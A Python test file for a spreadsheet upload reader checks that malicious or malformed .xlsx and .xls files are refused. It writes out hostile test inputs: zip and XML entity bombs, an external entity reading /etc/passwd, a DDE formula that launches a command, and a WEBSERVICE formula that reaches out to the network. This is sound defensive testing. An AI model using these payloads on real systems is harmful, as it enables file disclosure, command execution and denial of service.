"""Files that mean harm, or are none: refused in a sentence that says what to do, within five seconds."""

import re
import resource
import zipfile
from pathlib import Path

import pytest

from outreach.sheets.cells import FileFault
from outreach.sheets.reading import open_table
from tests.sheets.biff import OldSheet, old_workbook
from tests.sheets.files import GOOD_ROWS, HEADINGS, fault_of, package, rows_of, sheet_xml, text_cell


@pytest.mark.parametrize("name", ["word/document.xml", "content.xml", "readme.txt"])
def test_other_zip_files_are_refused(tmp_path: Path, name: str) -> None:
    path = tmp_path / "a.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(name, "x")
    assert "không phải bảng tính Excel" in fault_of(path)


def test_macros_are_refused(tmp_path: Path) -> None:
    assert "macro" in fault_of(package(tmp_path / "a.xlsx", extra={"xl/vbaProject.bin": b"x"}))


def test_too_many_entries_are_refused(tmp_path: Path) -> None:
    extra = {f"xl/media/{number}.txt": b"" for number in range(500)}
    assert "quá lớn" in fault_of(package(tmp_path / "a.xlsx", extra=extra))


def test_a_file_that_unpacks_to_too_much_is_refused(tmp_path: Path) -> None:
    path = package(tmp_path / "a.xlsx", extra={"xl/media/pad.bin": bytes(201 * 1024 * 1024)})
    assert path.stat().st_size < 1024 * 1024
    assert "quá lớn" in fault_of(path)


def test_an_entry_that_lies_about_its_size_is_refused(tmp_path: Path) -> None:
    path = package(tmp_path / "a.xlsx", extra={"xl/media/pad.bin": bytes(4_000_000)})
    raw = path.read_bytes()
    path.write_bytes(raw.replace((4_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little")))
    assert "bị hỏng" in fault_of(path)


def test_millions_of_rows_are_refused(tmp_path: Path) -> None:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>1</v></c><c r="B{n}"><v>2</v></c></row>' for n in range(1, 1_040_000)
    )
    assert "quá lớn" in fault_of(package(tmp_path / "a.xlsx", sheet_xml(rows)))


def test_a_cell_far_away_is_refused(tmp_path: Path) -> None:
    rows = GOOD_ROWS + f'<row r="1048576">{text_cell("XFD1048576", "x")}</row>'
    assert "rất xa bảng" in fault_of(package(tmp_path / "a.xlsx", sheet_xml(rows)))


@pytest.mark.parametrize("columns", [1_001, 17_000])
def test_a_row_of_more_cells_than_any_list_has_is_refused(tmp_path: Path, columns: int) -> None:
    row = "<row>" + "<c><v>1</v></c>" * columns + "</row>"
    assert "quá lớn" in fault_of(package(tmp_path / "a.xlsx", sheet_xml(row)))


@pytest.mark.parametrize("dimension", ["A1", "A1:B1", "A1:T1048576"])
def test_a_dimension_that_is_merely_wrong_changes_nothing(tmp_path: Path, dimension: str) -> None:
    path = package(tmp_path / "a.xlsx", sheet_xml(GOOD_ROWS, dimension=dimension))
    assert rows_of(path) == [(1, HEADINGS), (2, ("H-1", "02/01/2020", None, None))]


@pytest.mark.parametrize("dimension", ["A1:XFD1048576", "A1:XFD3000"])
def test_a_dimension_beyond_all_lists_is_refused(tmp_path: Path, dimension: str) -> None:
    assert "quá lớn" in fault_of(package(tmp_path / "a.xlsx", sheet_xml(GOOD_ROWS, dimension=dimension)))


BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha" * 1000}">' for n in range(10))


@pytest.mark.parametrize(
    "declared", [BOMB, '<!ENTITY a9 SYSTEM "file:///etc/passwd">'], ids=["bomb", "outside"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(tmp_path: Path, declared: str, encoding: str) -> None:
    rows = GOOD_ROWS + f'<row r="3">{text_cell("A3", "&a9;")}</row>'
    content = sheet_xml(rows, prolog=f"<!DOCTYPE worksheet [{declared}]>").decode()
    content = content.replace("UTF-8", encoding.upper())
    assert "khai báo" in fault_of(package(tmp_path / "a.xlsx", content.encode(encoding)))


def test_entities_in_another_part_are_refused(tmp_path: Path) -> None:
    part = f'<?xml version="1.0"?><!DOCTYPE x [{BOMB}]><x>&a9;</x>'.encode()
    assert "khai báo" in fault_of(package(tmp_path / "a.xlsx", extra={"docProps/custom.xml": part}))


@pytest.mark.parametrize("times", [4_000, 20_000])  # too much to answer; too much to hold
def test_one_long_text_shared_by_many_cells_cannot_fill_the_memory(tmp_path: Path, times: int) -> None:
    long = "x" * 30_000
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, times))
    path = package(tmp_path / "a.xlsx", sheet_xml(rows))
    with zipfile.ZipFile(path) as old:
        entries = {name: old.read(name) for name in old.namelist()}
    strings = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        f"<si><t>{long}</t></si></sst>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in (entries | {"xl/sharedStrings.xml": strings.encode()}).items():
            new.writestr(name, content)
    assert "quá lớn" in fault_of(path)


def formula(tmp_path: Path, cell: str) -> Path:
    row = f'<row r="3"><c r="A3"{cell}</c></row>'
    return package(tmp_path / "a.xlsx", sheet_xml(GOOD_ROWS + row))


@pytest.mark.parametrize(
    "cell",
    [
        "><f>1+1</f>",
        "><f>1+1</f><v></v>",
        "><f>1+1</f><v />",
        '><f t="shared" ref="A3:A9" si="0">A2+1</f><v/>',
        "><f>cmd|'/C calc'!A0</f><v>0</v>",
        "><f>[1]Sheet1!A1</f><v>5</v>",
        '><f>WEBSERVICE("http://example.com/"&amp;A1)</f><v>5</v>',
    ],
)
def test_formulas_that_are_not_worked_out_or_reach_out_are_refused(tmp_path: Path, cell: str) -> None:
    assert "công thức" in fault_of(formula(tmp_path, cell))


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("><f>A2+1</f><v>2</v>", 2.0),
        (' t="str"><f>A1&amp;"|"&amp;B1</f><v>a|b</v>', "a|b"),
        ('><f t="shared" si="0"/><v>7</v>', 7.0),
    ],
)
def test_other_formulas_give_their_last_value(tmp_path: Path, cell: str, value: str | float) -> None:
    assert rows_of(formula(tmp_path, cell))[-1] == (3, (value, None, None, None))


def test_a_formula_may_come_out_empty(tmp_path: Path) -> None:
    assert len(rows_of(formula(tmp_path, ' t="str"><f>IF(A1=1,"x","")</f><v></v>'))) == 2


@pytest.mark.parametrize(
    "magic", [b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0JFIF", b"RIFF....WEBPVP8 "]
)
def test_pictures_and_pdfs_called_xlsx_are_refused(tmp_path: Path, magic: bytes) -> None:
    path = tmp_path / "danh-sach.xlsx"
    path.write_bytes(magic + bytes(range(256)) * 50)
    fault_of(path)


def test_an_old_workbook_with_a_password_or_macros_is_refused(tmp_path: Path) -> None:
    sheets = [OldSheet("Một", [["a"]])]
    assert "mật khẩu" in fault_of(old_workbook(tmp_path / "a.xls", sheets, password=True))
    assert "macro" in fault_of(old_workbook(tmp_path / "b.xls", sheets, part="_VBA_PROJECT"))


def test_an_old_workbook_with_a_cell_far_away_is_refused(tmp_path: Path) -> None:
    rows = [["a"], *[[]] * 65_000, [*[None] * 250, "b"]]
    assert "quá lớn" in fault_of(old_workbook(tmp_path / "a.xls", [OldSheet("Một", rows)]))


def test_junk_that_parsers_choke_on_is_given_up(tmp_path: Path) -> None:
    path = tmp_path / "a.xls"
    path.write_text("<table><tr><td>a" + "<!" * 3_000_000)
    began = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime
    with pytest.raises(FileFault, match="quá lớn"):
        open_table(path)
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime - began < 6


@pytest.mark.parametrize(
    "table",
    [
        "<tr>" + "<td colspan=1000 rowspan=60000>a</td>" * 2 + "</tr>" + "<tr><td>b</td></tr>" * 3_000,
        "<tr>" + "<td>a</td>" * 1_001 + "</tr>",
        "<table>" * 1_001,
        f"<tr><td rowspan=60000>{'x' * 30_000}</td></tr>" + "<tr></tr>" * 60_000,
    ],
    ids=["spans", "columns", "tables", "repeated text"],
)
def test_a_page_that_swells_is_refused(tmp_path: Path, table: str) -> None:
    path = tmp_path / "a.xls"
    path.write_text(f"<table>{table}</table>")
    assert "quá lớn" in fault_of(path)


@pytest.mark.parametrize("prefix", ["", "x:"])
@pytest.mark.parametrize("gap", ["", "\n  "])
def test_formulas_are_seen_however_the_xml_is_laid_out(tmp_path: Path, prefix: str, gap: str) -> None:
    """Programs that write workbooks name the elements x:c, or put each on a line of its own."""
    for cell in ("<f>1+1</f>", "<f>1+1</f><v></v>", "<f>cmd|'/C calc'!A0</f><v>0</v>"):
        row = f'<row r="3"><c r="A3">{gap}{cell}{gap}</c></row>'
        content = sheet_xml(GOOD_ROWS + row).decode()
        if prefix:
            content = re.sub("<(/?)(?=[a-z])", rf"<\1{prefix}", content).replace("xmlns=", "xmlns:x=")
        assert "công thức" in fault_of(package(tmp_path / "a.xlsx", content.encode()))


def test_a_formula_that_is_hard_to_look_through_costs_little(tmp_path: Path) -> None:
    path = formula(tmp_path, f"><f>{'a|' * 300_000}</f><v>1</v>")
    began = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime
    assert len(rows_of(path)) == 3
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime - began < 2


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused(tmp_path: Path) -> None:
    """What Excel would show to somebody who looks may be the other one."""
    path = package(tmp_path / "a.xlsx", extra={"xl/worksheets/sheet1.xml": sheet_xml(GOOD_ROWS)})
    assert "bị hỏng" in fault_of(path)


@pytest.mark.parametrize("sheets", [["x" * 200_000], [f"T{number}" for number in range(20_000)]])
def test_more_or_longer_names_of_sheets_than_excel_has_are_refused(tmp_path: Path, sheets: list[str]) -> None:
    namespaces = (
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    )
    named = "".join(
        f'<sheet name="{name}" sheetId="{place}" r:id="rId1"/>' for place, name in enumerate(sheets, start=1)
    )
    path = package(tmp_path / "a.xlsx")
    with zipfile.ZipFile(path) as old:
        entries = {name: old.read(name) for name in old.namelist()}
    entries["xl/workbook.xml"] = f"<workbook {namespaces}><sheets>{named}</sheets></workbook>".encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in entries.items():
            new.writestr(name, content)
    assert "bị hỏng" in fault_of(path)
